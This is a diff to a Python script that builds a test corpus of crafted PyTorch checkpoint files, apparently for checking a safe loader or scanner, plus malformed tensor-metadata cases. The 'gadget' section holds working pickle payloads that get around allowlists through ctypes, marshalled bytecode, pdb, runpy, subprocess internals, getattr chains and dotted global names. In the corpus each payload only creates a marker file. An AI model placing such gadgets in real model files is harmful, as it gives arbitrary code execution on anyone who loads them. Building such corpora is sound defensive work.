+           "a __main__.Model (not allowlisted) whose BUILD state is the payload pickle itself, as bytes",
+           call(glob("__main__", "Model")) + binbytes(INNER) + BUILD, ["os.system"])
+
+
+# --------------------------------------------------------------------------------------
+# gadget. Globals outside the obvious os/subprocess/builtins names that run
+# code, spawn processes, create files or unpickle, each used as a REDUCE payload.
+
+# What CPython 3.11 compiles `open('tensorplay_pwned_marker', 'w').close()` to (from
+# compile(); constants pasted so the corpus does not depend on the running Python).
+CODE_311 = bytes.fromhex(
+    "97000200650064006401a6020000ab020000000000000000a0010000000000000000000000000000000000000000"
+    "a6000000ab000000000000000000010064025300")
+LINETABLE_311 = bytes.fromhex("f003010101d800048004d0051ea003d10024d40024d7002ad2002ad1002cd4002cd0002cd0002cd0002c")
+MARSHALLED_CODE_311 = bytes.fromhex(
+    "e30000000000000000000000000400000000000000f34200000097000200650064006401a6020000ab020000000000"
+    "000000a0010000000000000000000000000000000000000000a6000000ab0000000000000000000100640253002903"
+    "da1774656e736f72706c61795f70776e65645f6d61726b6572da01774e2902da046f70656eda05636c6f7365a900f3"
+    "00000000fa063c636b70743efa083c6d6f64756c653e720900000001000000732a000000f003010101d80004800"
+    "4d0051ea003d10024d40024d7002ad2002ad1002cd4002cd0002cd0002cd0002c7207000000")
+
+
+def gadget_family(c: Corpus) -> None:
+    fam = "gadget"
+
+    def gadget(file, description, body, dangerous, protocol=3):
+        data = pkl(body, protocol)
+        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)
+
+    def method(name: str, *args: bytes) -> bytes:
+        return call(glob("operator", "methodcaller"), u(name), *args)
+
+    touch = binbytes(TOUCH.encode())
+    gadget("ctypes_cdll_system.pt", "methodcaller('system', b'touch marker')(ctypes.CDLL(None)): libc's system()",
+           call(method("system", touch), call(glob("ctypes", "CDLL"), NONE)), ["ctypes.CDLL", "operator.methodcaller"])
+    gadget("ctypes_pythonapi.pt",
+           "methodcaller('PyRun_SimpleString', source)(ctypes.pythonapi): the interpreter's C API runs the source",
+           call(method("PyRun_SimpleString", binbytes(PY_MARKER.encode())), glob("ctypes", "pythonapi")),
+           ["ctypes.pythonapi", "operator.methodcaller"])
+    gadget("_ctypes_call_function.pt",
+           "_ctypes.call_function(_ctypes.dlsym(_ctypes.dlopen(None), 'system'), (b'touch marker',))",
+           call(glob("_ctypes", "call_function"),
+                call(glob("_ctypes", "dlsym"), call(glob("_ctypes", "dlopen"), NONE), u("system")), tup(touch)),
+           ["_ctypes.call_function", "_ctypes.dlsym", "_ctypes.dlopen"])
+    gadget("fx_exec_with_source.pt", "torch.fx.graph_module._exec_with_source(source, {}): exec of a string",
+           call(glob("torch.fx.graph_module", "_exec_with_source"), u(PY_MARKER), EMPTY_DICT),
+           ["torch.fx.graph_module._exec_with_source"])
+    gadget("xxsubinterpreters_run_string.pt",
+           "_xxsubinterpreters.run_string(_xxsubinterpreters.create(), source) (Python 3.8 to 3.12)",
+           call(glob("_xxsubinterpreters", "run_string"), call(glob("_xxsubinterpreters", "create")), u(PY_MARKER)),
+           ["_xxsubinterpreters.run_string", "_xxsubinterpreters.create"])
+    gadget("interpreters_exec.pt", "_interpreters.exec(_interpreters.create(), source) (Python 3.13 and later)",
+           call(glob("_interpreters", "exec"), call(glob("_interpreters", "create")), u(PY_MARKER)),
+           ["_interpreters.exec", "_interpreters.create"])
+    gadget("distutils_spawn.pt", "distutils.spawn.spawn(['touch', marker])",
+           call(glob("distutils.spawn", "spawn"), lst(u("touch"), u(MARKER))), ["distutils.spawn.spawn"])
+    gadget("logging_handlers.pt",
+           "logging.FileHandler(marker) creates the file; logging.handlers.SocketHandler('127.0.0.1', 9) "
+           "is a channel out",
+           tup(call(glob("logging", "FileHandler"), u(MARKER)),
+               call(glob("logging.handlers", "SocketHandler"), u("127.0.0.1"), i(9))),
+           ["logging.FileHandler", "logging.handlers.SocketHandler"])
+    gadget("zipfile_create.pt", "zipfile.ZipFile(marker, 'w') creates the file",
+           call(glob("zipfile", "ZipFile"), u(MARKER), u("w")), ["zipfile.ZipFile"])
+    gadget("io_open.pt", "io.open(marker, 'w')", call(glob("io", "open"), u(MARKER), u("w")), ["io.open"])
+    gadget("_io_open.pt", "_io.open(marker, 'w')", call(glob("_io", "open"), u(MARKER), u("w")), ["_io.open"])
+    gadget("fileio.pt", "_io.FileIO(marker, 'w'), then io.FileIO(marker, 'w')",
+           tup(call(glob("_io", "FileIO"), u(MARKER), u("w")), call(glob("io", "FileIO"), u(MARKER), u("w"))),
+           ["_io.FileIO", "io.FileIO"])
+    gadget("sqlite3_connect.pt", "sqlite3.connect(marker) creates a database file",
+           call(glob("sqlite3", "connect"), u(MARKER)), ["sqlite3.connect"])
+    gadget("marshal_code.pt",
+           "types.FunctionType(marshal.loads(code), {})(): a marshalled CPython 3.11 code object that opens the marker",
+           call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), binbytes(MARSHALLED_CODE_311)),
+                     EMPTY_DICT)), ["types.FunctionType", "marshal.loads"])
+    code = call(glob("types", "CodeType"), i(0), i(0), i(0), i(0), i(4), i(0), binbytes(CODE_311),
+                tup(u(MARKER), u("w"), NONE), tup(u("open"), u("close")), EMPTY_TUPLE, u("<ckpt>"), u("<module>"),
+                u("<module>"), i(1), binbytes(LINETABLE_311), binbytes(b""), EMPTY_TUPLE, EMPTY_TUPLE)
+    gadget("types_codetype.pt",
+           "types.FunctionType(types.CodeType(...CPython 3.11 bytecode...), {})(): a function built from fields",
+           call(call(glob("types", "FunctionType"), code, EMPTY_DICT)), ["types.CodeType", "types.FunctionType"])
+    gadget("numpy_file_gadgets.pt",
+           "numpy.savetxt(marker, [0]) creates the file, numpy.memmap(marker, 'uint8', 'w+', 0, (1,)) maps it "
+           "writable, numpy.load(marker, None, True) unpickles whatever is there",
+           tup(call(glob("numpy", "savetxt"), u(MARKER), lst(i(0))),
+               call(glob("numpy", "memmap"), u(MARKER), u("uint8"), u("w+"), i(0), tup(i(1))),
+               call(glob("numpy", "load"), u(MARKER), NONE, NEWTRUE)),
+           ["numpy.savetxt", "numpy.memmap", "numpy.load"])
+    legacy = LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL + pkl(EMPTY_LIST)
+    gadget("load_from_bytes_legacy.pt",
+           "torch.storage._load_from_bytes of a legacy-format (pre-1.6) stream whose main pickle calls os.system",
+           call(glob("torch.storage", "_load_from_bytes"), binbytes(legacy)),
+           ["torch.storage._load_from_bytes", "os.system"])
+    gadget("posixsubprocess_fork_exec.pt",
+           "_posixsubprocess.fork_exec(['touch', marker], ['/usr/bin/touch'], ...): subprocess's own fork+exec",
+           call(glob("_posixsubprocess", "fork_exec"), lst(binbytes(b"touch"), binbytes(MARKER.encode())),
+                lst(binbytes(b"/usr/bin/touch")), NEWTRUE, EMPTY_TUPLE, NONE, NONE,
+                *(i(-1) for _ in range(8)), NEWFALSE, NEWFALSE, i(-1), NONE, NONE, i(-1), NONE),
+           ["_posixsubprocess.fork_exec"])
+    gadget("multiprocessing_process.pt",
+           "methodcaller('start')(multiprocessing.Process(None, os.system, None, (cmd,)))",
+           call(method("start"), call(glob("multiprocessing", "Process"), NONE, glob("os", "system"), NONE,
+                                     tup(u(TOUCH)))),
+           ["multiprocessing.Process", "os.system", "operator.methodcaller"])
+    gadget("multiprocessing_spawnv.pt",
+           "multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', [b'touch', marker], ()): fork and exec",
+           call(glob("multiprocessing.util", "spawnv_passfds"), binbytes(b"/usr/bin/touch"),
+                lst(binbytes(b"touch"), binbytes(MARKER.encode())), EMPTY_TUPLE),
+           ["multiprocessing.util.spawnv_passfds"])
+    gadget("asyncio_subprocess_shell.pt", "asyncio.run(asyncio.create_subprocess_shell(cmd))",
+           call(glob("asyncio", "run"), call(glob("asyncio", "create_subprocess_shell"), u(TOUCH))),
+           ["asyncio.run", "asyncio.create_subprocess_shell"])
+    gadget("pdb_run.pt", "pdb.run(source): the debugger executes the statement",
+           call(glob("pdb", "run"), u(PY_MARKER)), ["pdb.run"])
+    gadget("code_interpreter.pt", "methodcaller('runsource', source)(code.InteractiveInterpreter())",
+           call(method("runsource", u(PY_MARKER)), call(glob("code", "InteractiveInterpreter"))),
+           ["code.InteractiveInterpreter", "operator.methodcaller"])
+    gadget("code_interact.pt",
+           "code.interact(None, functools.partial(builtins.next, iter([source]))): the console reads its "
+           "input from the file",
+           call(glob("code", "interact"), NONE,
+                call(glob("functools", "partial"), glob("builtins", "next"),
+                     call(glob("builtins", "iter"), lst(u(PY_MARKER))))),
+           ["code.interact", "functools.partial"])
+    gadget("idlelib_calltip.pt", "idlelib.calltip.get_entity(expression) evaluates the expression",
+           call(glob("idlelib.calltip", "get_entity"), u(f"__import__('os').system({TOUCH!r})")),
+           ["idlelib.calltip.get_entity"])
+    gadget("webbrowser_get.pt", "methodcaller('open', marker)(webbrowser.get('touch %s')): the 'browser' is touch",
+           call(method("open", u(MARKER)), call(glob("webbrowser", "get"), u("touch %s"))),
+           ["webbrowser.get", "operator.methodcaller"])
+    gadget("runpy_run_path.pt", "runpy.run_path(marker + '.py'), then runpy._run_module_code(source)",
+           tup(call(glob("runpy", "run_path"), u(MARKER + ".py")),
+               call(glob("runpy", "_run_module_code"), u(PY_MARKER))),
+           ["runpy.run_path", "runpy._run_module_code"])
+    gadget("importlib_import_module.pt", "methodcaller('system', cmd)(importlib.import_module('posix'))",
+           call(method("system", u(TOUCH)), call(glob("importlib", "import_module"), u("posix"))),
+           ["importlib.import_module", "operator.methodcaller"])
+    getattr_ = glob("builtins", "getattr")
+    chain = call(getattr_, glob("torch._utils", "_rebuild_tensor_v2"), u("__globals__"))
+    chain = call(call(getattr_, chain, u("get")), u("torch"))
+    chain = call(getattr_, call(getattr_, chain, u("os")), u("system"))
+    gadget("getattr_globals_chain.pt",
+           "getattr from an allowlisted function: _rebuild_tensor_v2.__globals__.get('torch').os.system(cmd)",
+           call(chain, u(TOUCH)), ["builtins.getattr"])
+    gadget("attrgetter_through_module.pt",
+           "operator.attrgetter('torch.os.system')(torch._utils)(cmd): a dotted path through modules torch imported",
+           call(call(call(glob("operator", "attrgetter"), u("torch.os.system")), glob("torch", "_utils")), u(TOUCH)),
+           ["operator.attrgetter"])
+    gadget("partial_os_system.pt", "functools.partial(os.system, cmd)() through REDUCE",
+           call(call(glob("functools", "partial"), glob("os", "system"), u(TOUCH))), ["functools.partial", "os.system"])
+    gadget("stack_global_dotted_name.pt",
+           "protocol 4 STACK_GLOBAL('torch', 'os.system'): pickle resolves dotted names attribute by attribute, "
+           "so this is os.system under the module name torch",
+           su("torch") + su("os.system") + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE, ["torch.os.system"], 4)
+    gadget("imaplib_stream.pt", "imaplib.IMAP4_stream(cmd) runs the command through a shell",
+           call(glob("imaplib", "IMAP4_stream"), u(TOUCH)), ["imaplib.IMAP4_stream"])
+    gadget("osx_support_read_output.pt", "_osx_support._read_output(cmd) runs the command with os.system",
+           call(glob("_osx_support", "_read_output"), u(TOUCH)), ["_osx_support._read_output"])
+    gadget("uuid_command_stdout.pt", "uuid._get_command_stdout('touch', marker) runs the command",
+           call(glob("uuid", "_get_command_stdout"), u("touch"), u(MARKER)), ["uuid._get_command_stdout"])
+    gadget("pydoc_pipepager.pt", "pydoc.pipepager(text, cmd) pipes the text to a shell command",
+           call(glob("pydoc", "pipepager"), u(""), u(TOUCH)), ["pydoc.pipepager"])
+    gadget("profilers_run.pt", "cProfile.run(source), profile.run(source), timeit.timeit(source): each executes it",
+           tup(call(glob("cProfile", "run"), u(PY_MARKER)), call(glob("profile", "run"), u(PY_MARKER)),
+               call(glob("timeit", "timeit"), u(PY_MARKER), i(1))),
+           ["cProfile.run", "profile.run", "timeit.timeit"])
+    gadget("doctest_debug_script.pt", "doctest.debug_script(source) runs the source under pdb",
+           call(glob("doctest", "debug_script"), u(PY_MARKER)), ["doctest.debug_script"])
+    gadget("pty_spawn.pt", "pty.spawn(['touch', marker])", call(glob("pty", "spawn"), lst(u("touch"), u(MARKER))),
+           ["pty.spawn"])
+    gadget("file_creating_openers.pt",
+           "codecs.open, tarfile.open, gzip.open, bz2.open and lzma.open of the marker for writing: each creates it",
+           tup(call(glob("codecs", "open"), u(MARKER), u("w")), call(glob("tarfile", "open"), u(MARKER), u("w")),
+               call(glob("gzip", "open"), u(MARKER), u("wb")),
+               tup(call(glob("bz2", "open"), u(MARKER), u("wb")), call(glob("lzma", "open"), u(MARKER), u("wb")))),
+           ["codecs.open", "tarfile.open", "gzip.open", "bz2.open", "lzma.open"])
+    gadget("shelve_open.pt", "shelve.open(marker) creates a database whose values it unpickles",
+           call(glob("shelve", "open"), u(MARKER)), ["shelve.open"])
+    gadget("pathlib_touch.pt", "methodcaller('touch')(pathlib.Path(marker))",
+           call(method("touch"), call(glob("pathlib", "Path"), u(MARKER))), ["pathlib.Path", "operator.methodcaller"])
+
+
+# --------------------------------------------------------------------------------------
+# tensor_metadata, continued: tensors torch itself saved, then edited. torch writes the
+# pickle and the records (zip_archive rewrites the archive around them); each edit is
+# checked to hit exactly one place.
+
+def torch_records(obj) -> list[tuple[str, bytes]]:
+    """The records of torch.save(obj), in torch's order (torch 2.13: deterministic,
+    the serialization id is a hash of the records)."""
+    import zipfile
+
+    import torch
+
+    buf = io.BytesIO()
+    torch.save(obj, buf)
+    with zipfile.ZipFile(buf) as z:
+        return [(info.filename, z.read(info)) for info in z.infolist()]
+
+
+def edited(records: list[tuple[str, bytes]], changes: dict[str, bytes]) -> bytes:
+    """The archive again, written by zip_archive, with the records named in `changes`
+    (names below archive/) replaced."""
+    names = {name.split("/", 1)[1] for name, _ in records}
+    assert set(changes) <= names, set(changes) - names
+    return zip_archive([Entry(name, changes.get(name.split("/", 1)[1], data)) for name, data in records])
+
+
+def replace_once(data: bytes, old: bytes, new: bytes, after: bytes = b"") -> bytes:
+    """`data` with `old` replaced: its only occurrence, or with `after`, the first one
+    after the only occurrence of `after`."""
+    start = 0
+    if after:
+        assert data.count(after) == 1, after
+        start = data.index(after)
+    else:
+        assert data.count(old) == 1, old
+    at = data.index(old, start)
+    return data[:at] + new + data[at + len(old):]
+
+
+def torch_tensor_family(c: Corpus) -> None:
+    import warnings
+
+    with warnings.catch_warnings():
+        # Sparse CSR, nested and quantized tensors warn that they are beta or deprecated.
+        warnings.simplefilter("ignore")
+        _torch_tensor_cases(c)
+
+
+def _torch_tensor_cases(c: Corpus) -> None:
+    import torch
+
+    fam = "tensor_metadata"
+
+    def add(file, description, data):
+        c.add(file, fam, description, MALFORMED, data)
+
+    longs = lambda *v: struct.pack(f"<{len(v)}q", *v)  # noqa: E731 - int64 storage bytes
+    with torch.sparse.check_sparse_tensor_invariants(False):
+        csr = torch.sparse_csr_tensor(torch.tensor([0, 1, 2]), torch.tensor([0, 1]), torch.tensor([1.0, 2.0]),
+                                      size=(2, 2))
+        coo = torch.sparse_coo_tensor(torch.tensor([[0, 1], [1, 0]]), torch.tensor([1.0, 2.0]), size=(2, 2))
+    records = torch_records({"w": csr})
+    add("sparse_csr_col_index_out_of_range.pt",
+        "a 2x2 sparse CSR tensor saved by torch, its col_indices storage edited to [0, 5]",
+        edited(records, {"data/1": longs(0, 5)}))
+    add("sparse_csr_crow_decreasing.pt",
+        "a 2x2 sparse CSR tensor saved by torch, its crow_indices storage edited to [0, 2, 1]",
+        edited(records, {"data/0": longs(0, 2, 1)}))
+    add("sparse_coo_index_out_of_range.pt",
+        "a 2x2 sparse COO tensor saved by torch, its indices storage edited to [[0, 1], [1, 7]]",
+        edited(torch_records({"w": coo}), {"data/0": longs(0, 1, 1, 7)}))
+    nested = torch.nested.nested_tensor([torch.tensor([1.0, 2.0]), torch.tensor([3.0, 4.0, 5.0])])
+    add("nested_offsets_past_buffer.pt",
+        "a nested tensor of 2 and 3 floats (a 5-float buffer) saved by torch, its offsets edited to [0, 4]: "
+        "the second component reaches element 7",
+        edited(torch_records({"w": nested}), {"data/3": longs(0, 4)}))
+
+    q = torch.quantize_per_channel(torch.tensor([[1.0, 2.0], [3.0, 4.0]]),
+                                   torch.tensor([0.1, 0.2], dtype=torch.float64), torch.tensor([0, 0]), 0, torch.qint8)
+    records = torch_records({"w": q})
+    pkl_bytes = dict(records)["archive/data.pkl"]
+    size2 = BINPERSID + i(0) + i(2) + TUPLE1  # a 2-element tensor's storage id, offset 0 and size (2,)
+    size1 = BINPERSID + i(0) + i(1) + TUPLE1
+    scales = replace_once(pkl_bytes, size2, size1, after=glob("torch", "DoubleStorage"))
+    add("qtensor_scales_wrong_length.pt",
+        "a per-channel quantized 2x2 tensor (axis 0) saved by torch, its scales tensor edited to 1 element",
+        edited(records, {"data.pkl": scales}))
+    zeros = replace_once(pkl_bytes, size2, size1, after=glob("torch", "LongStorage"))
+    add("qtensor_zero_points_wrong_length.pt",
+        "a per-channel quantized 2x2 tensor (axis 0) saved by torch, its zero_points tensor edited to 1 element",
+        edited(records, {"data.pkl": zeros}))
+    axis = pkl_bytes.rindex(i(0) + TUPLE)  # the qscheme tuple ends with the axis
+    assert pkl_bytes[axis + 3:axis + 4] == BINPUT, "the axis is not where torch 2.13 writes it"
+    add("qtensor_axis_out_of_range.pt",
+        "a per-channel quantized 2x2 tensor saved by torch, its axis edited from 0 to 5",
+        edited(records, {"data.pkl": pkl_bytes[:axis] + i(5) + pkl_bytes[axis + 2:]}))
+
+    class Wrapper(torch.Tensor):
+        """A wrapper subclass (no storage of its own): torch saves it with _rebuild_wrapper_subclass."""
+
+        @staticmethod
+        def __new__(cls, elem):
+            return torch.Tensor._make_wrapper_subclass(cls, elem.shape, dtype=elem.dtype, device=elem.device)
+
+        @classmethod
+        def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
+            return NotImplemented
+
+    # pickle saves a class by name and checks the name finds it: give it one in this
+    # module for the save (the name is edited out of the file below).
+    Wrapper.__qualname__ = Wrapper.__name__ = "TensorplayCorpusWrapper"
+    setattr(sys.modules[__name__], Wrapper.__name__, Wrapper)
+    records = torch_records({"w": Wrapper(torch.zeros(2, 2))})
+    pkl_bytes = dict(records)["archive/data.pkl"]
+    plain = replace_once(pkl_bytes, glob(Wrapper.__module__, Wrapper.__qualname__), glob("torch", "Tensor"))
+    add("wrapper_subclass_of_tensor.pt",
+        "a wrapper-subclass tensor saved by torch, its class edited to torch.Tensor: "
+        "_rebuild_wrapper_subclass(torch.Tensor, ...), which torch cannot build (no __torch_dispatch__)",
+        edited(records, {"data.pkl": plain}))
+
+
 def build() -> Corpus:
     c = Corpus()
     code_execution(c)
@@ -1114,6 +1842,12 @@ def build() -> Corpus:
     legacy_family(c)
     resource_family(c)
     tensor_family(c)
+    compressed_family(c)
+    zip_confusion_family(c)
+    pickle_differential_family(c)
+    nested_family(c)
+    gadget_family(c)
+    torch_tensor_family(c)
     return c
 
 
